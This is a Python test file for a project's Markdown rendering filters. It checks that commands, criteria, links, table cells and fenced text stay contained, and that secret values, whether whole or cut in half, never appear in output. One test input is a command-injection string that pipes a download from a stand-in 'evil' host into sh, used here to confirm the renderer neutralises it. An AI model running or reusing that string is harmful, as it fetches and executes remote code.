"""The filters of the templates: whatever is in a value stays inside its fence, span, cell or section."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from irontree import rendering
from irontree.domain.comments import NOT_AS_WRITTEN
from irontree.domain.text import secret_values
from irontree.rendering import JinjaRenderer
from tests.support.views import TEMPLATES, case


def test_a_description_keeps_its_own_markdown():
    text = "Use `<b>`:\n\n```html\n<!-- kept -->\n```\n\n- a\n- b"
    assert rendering.markdown(text) == text


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("make test", "`make test`"),
        ("mail @ada", "`mail @\u200bada`"),
        ("a\nb", "`a b` **(not as written)**"),
        ("x" * 2000, f"`{'x' * 2000}`"),
        ("x" * 2001, f"`{'x' * 1999}\N{HORIZONTAL ELLIPSIS}` **(not as written)**"),
        ("true;curl${IFS}evil|sh;#.mino", "`(a local file)` **(not as written)**"),
        ("`date`", "`'date'` **(not as written)**"),
    ],
)
def test_a_command_in_a_comment_is_whole_or_says_what_it_lacks(value: str, shown: str):
    assert rendering.command(value) == shown


def test_a_command_with_a_secret_is_not_shown_as_written():
    secret = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
    values = case("comments/proposal.md", "x")
    values["approval"] |= {"lookalikes": ((secret, "U+0041"),)}
    told = JinjaRenderer().render("comments/proposal.md", **values)
    assert secret not in told
    assert NOT_AS_WRITTEN in told


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("it  is *there*", "it is *there*"),
        ("see [a](b) <b>", "see \\[a\\]\u200b(b) &lt;b>"),
        ("x" * 2001, "x" * 1999 + "\N{HORIZONTAL ELLIPSIS} **(not as written)**"),
        ("reads .mino/config.yml", "reads (a local file) **(not as written)**"),
    ],
)
def test_a_criterion_in_a_comment_is_whole_or_says_that_it_is_not(value: str, shown: str):
    assert rendering.criterion(value) == shown


def test_a_request_is_named_by_links_that_work_and_nothing_else_does():
    said = "#7 (https://example.com/pull/7) ask @ada about o/r#8"
    assert rendering.place(said, forge=True) == said.replace("@", "@\u200b").replace("r#", "r#\u200b")


@given(st.text())
def test_a_fence_holds_whatever_is_in_it(text: str):
    tokens = MarkdownIt("commonmark").parse(rendering.code(text))
    assert [token.type for token in tokens] == ["fence"]


@given(st.text(alphabet="`ab \\|<>\n", min_size=1))
def test_a_code_span_holds_whatever_is_in_it(text: str):
    (inline,) = MarkdownIt("commonmark").parse("x " + rendering.inline(text) + " y")[1:2]
    assert [child.type for child in inline.children] == ["text", "code_inline", "text"]


@given(
    st.lists(
        st.sampled_from(
            ["```", "~~~~", "````x", "text", "<!--", "-->", "```y`", "   ~~~", "<pre>", "x</PRE>", "<?", ""]
        ),
        max_size=8,
    )
)
def test_contained_markdown_ends_where_it_should(lines: list[str]):
    tokens = MarkdownIt("commonmark").parse(rendering.markdown("\n".join(lines)) + "\n\n## After\n")
    assert [token.content for token in tokens if token.type == "inline"][-1:] == ["After"]


@given(st.text(alphabet="\\|ab` "))
def test_a_cell_stays_one_cell(text: str):
    row = f"| a | b |\n|---|---|\n| {rendering.cell(text)} | end |\n"
    tokens = MarkdownIt("commonmark").enable("table").parse(row)
    assert [tokens[i + 1].content for i, token in enumerate(tokens) if token.type == "td_open"][1:] == ["end"]


def test_a_long_text_is_cut_and_says_so():
    assert rendering.cut("x" * 11, 10) == "x" * 10 + "\n...(shortened)..."
    assert rendering.cut("x" * 10, 10) == "x" * 10
    assert rendering.one_line("x" * 11, 10) == "x" * 9 + "…"


SECRETS = ("correct-horse-battery", "s3cr3t\tvalue")
RENDERER = rendering.JinjaRenderer(secret_values({"SHOP_API_KEY": "correct-horse-battery"}))
FILTERS = ("cell", "code", "cut(25)", "inline", "markdown", "one_line(40)", "plain", "quote_block", "slim", "text(30)")


@pytest.mark.parametrize("filter_", [*FILTERS, "visible"])
@pytest.mark.parametrize("secret", SECRETS)
def test_no_filter_lets_a_secret_or_half_of_one_through(filter_, secret):
    """A text that is cut in the middle of a secret must not show its first half."""
    environment = rendering.JinjaRenderer(SECRETS)._environment
    for before in ("", "x" * 15, "word " * 4):
        shown = environment.from_string(f"{{{{ value | {filter_} }}}}").render(value=f"{before}{secret} after")
        assert secret not in shown
        assert secret[:6] not in shown


@pytest.mark.parametrize("template", sorted(TEMPLATES))
def test_no_template_shows_the_value_of_a_secret_variable(template):
    text = "it said correct-horse-battery, and ghp_0123456789abcdefghijABCDEFGHIJ012345"
    shown = RENDERER.render(template, **case(template, text))
    assert "correct-horse" not in shown
    assert "ghp_" not in shown
